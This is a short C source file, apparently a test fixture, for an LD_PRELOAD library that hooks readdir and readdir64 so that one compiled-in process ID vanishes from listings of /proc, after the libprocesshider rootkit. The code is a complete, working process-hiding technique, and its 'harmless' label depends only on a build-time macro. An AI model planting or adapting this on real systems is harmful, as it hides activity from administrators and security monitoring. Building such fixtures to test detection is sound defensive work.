/* A library for /etc/ld.so.preload that leaves one process out of every listing of /proc, as libprocesshider does.
   Harmless: it knows the one pid that the test compiled into it, and changes nothing else.

   cc -shared -fPIC -DHIDDEN='"1234"' -o libhides.so hides.c -ldl */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
#include <stdio.h>
#include <unistd.h>

static int of_proc(DIR *folder)
{
    char link[64], where[16];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(folder));
    ssize_t length = readlink(link, where, sizeof where);
    return length == 5 && memcmp(where, "/proc", 5) == 0;
}

#define HIDING(entry, function)                                                          \
    struct entry *function(DIR *folder)                                                  \
    {                                                                                    \
        static struct entry *(*real)(DIR *);                                             \
        struct entry *found;                                                             \
        if (!real)                                                                       \
            real = (struct entry *(*)(DIR *)) dlsym(RTLD_NEXT, #function);               \
        do                                                                               \
            found = real(folder);                                                        \
        while (found && strcmp(found->d_name, HIDDEN) == 0 && of_proc(folder));          \
        return found;                                                                    \
    }

HIDING(dirent, readdir)
HIDING(dirent64, readdir64)
